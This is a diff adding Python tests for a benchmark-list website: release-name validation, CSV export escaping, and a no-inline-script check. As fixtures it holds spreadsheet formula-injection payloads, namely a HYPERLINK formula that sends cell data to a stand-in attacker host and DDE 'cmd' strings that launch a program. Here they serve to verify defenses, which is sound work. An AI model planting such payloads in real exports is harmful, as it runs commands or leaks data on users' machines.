@@ -242,3 +242,78 @@ def test_a_list_of_a_release_under_embargo_stays_hidden_until_the_embargo_ends(
     release.embargo_end = timezone.now() - datetime.timedelta(minutes=1)
     release.save(update_fields=["embargo_end"])
     assert len(page(client, "/lists/isc21/io500/").context["rows"]) == 58
+
+
+def test_a_release_picked_by_a_name_no_url_can_hold_is_a_404_with_the_reason(client, db):
+    response = client.get("/lists/", {"release": "foo-bar"})
+    assert response.status_code == 404
+    assert "There is no release &quot;foo-bar&quot;" in response.content.decode()
+    for odd in ("../sc19", "sc19\x00", "\u017fc19", "sc 19"):
+        assert client.get("/lists/", {"release": odd}).status_code == 404, odd
+
+
+FORMULAS = {
+    "system": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for the full results")',
+    "institution": "+cmd|' /C calc'!A0",
+    "storage_vendor": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "filesystem": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def test_the_csv_download_never_writes_a_cell_a_spreadsheet_would_run(client, db):
+    from tests.factories import make_release, make_storage_system, make_submission, publish_list
+
+    release = make_release(name="SC39")
+    system = make_storage_system(
+        name=FORMULAS["system"],
+        institution__name=FORMULAS["institution"],
+        vendor=FORMULAS["storage_vendor"],
+        filesystem_type=FORMULAS["filesystem"],
+    )
+    # A tab starts a cell in some spreadsheets; a separator inside quotes must not start a new one.
+    other = make_storage_system(name="\t=1+1", institution__name="Lab; =1+1", vendor="Plain -1.5 Inc")
+    publish_list(
+        release,
+        "io500",
+        [make_submission(release=release, storage_system=s, bw=1.5, md=2.0) for s in (system, other)],
+    )
+    text = client.get("/lists/sc39/io500.csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    for field, formula in FORMULAS.items():
+        assert rows[0][field] == f"'{formula}"
+    assert rows[1]["system"] == "'\t=1+1"
+    assert rows[1]["institution"] == "Lab; =1+1" and rows[1]["storage_vendor"] == "Plain -1.5 Inc"
+    # Numbers stay numbers (unquoted); text is quoted.
+    line = text.splitlines()[1]
+    assert ",1.5,2.0," in line and "\"'=HYPERLINK(" in line
+    assert rows[0]["rank"] == "1" and rows[0]["list_provenance"] == "published_here"
+
+
+def test_list_pages_run_no_inline_script_or_event_handler(client, db):
+    from tests.frontend.chart_data import build_history
+
+    build_history()
+    html = client.get("/lists/isc41/io500/").content.decode()
+    assert "onchange=" not in html and "<script>" not in html
+    assert "data-auto-submit" in html and "frontend/js/auto-submit.js" in html
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (-1.5, -1.5),  # a number cannot run anything
+        ("-1.5", "-1.5"),
+        ("+3e5", "+3e5"),
+        ("-1.5 GiB", "'-1.5 GiB"),
+        ("  =1+1", "'  =1+1"),  # spreadsheets skip the spaces
+        ("\uff1dcmd()", "'\uff1dcmd()"),  # a full-width equals sign
+        ("\r=1", "'\r=1"),
+        ("Lustre", "Lustre"),
+        (None, ""),
+        (True, "True"),
+    ],
+)
+def test_a_cell_starting_a_formula_is_written_as_text(value, written):
+    from frontend.csv_cells import safe_cell
+
+    assert safe_cell(value) == written
